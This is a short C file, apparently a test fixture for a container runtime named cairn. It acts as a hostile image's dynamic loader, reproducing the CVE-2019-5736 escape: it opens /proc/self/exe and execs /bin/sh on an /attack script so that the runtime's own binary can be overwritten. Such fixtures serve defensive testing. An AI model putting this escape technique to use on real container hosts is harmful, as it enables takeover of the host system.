/* sandbox_loader - plays the dynamic loader of a hostile image (CVE-2019-5736).
 *
 * An image whose command is /proc/self/exe has cairn's own program executed with the
 * image's loader. This one holds the program open and executes /bin/sh with the
 * descriptor, which then tries to write to it. No C library: it must start as a loader.
 */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long nr, const void *a, long b, const void *c)
{
	long r;

	__asm__ volatile("syscall"
	                 : "=a"(r)
	                 : "a"(nr), "D"(a), "S"(b), "d"(c)
	                 : "rcx", "r11", "memory");
	return r;
}

void _start(void);
void _start(void)
{
	static const char exe[] = "/proc/self/exe", sh[] = "/bin/sh", script[] = "/attack";
	const char *argv[3], *env[1];

	argv[0] = sh;
	argv[1] = script;
	argv[2] = 0;
	env[0] = 0;
	(void)call(SYS_open, exe, O_RDONLY, 0);
	(void)call(SYS_execve, sh, (long)argv, env);
	(void)call(SYS_exit, (const void *)1, 0, 0);
	__builtin_unreachable();
}
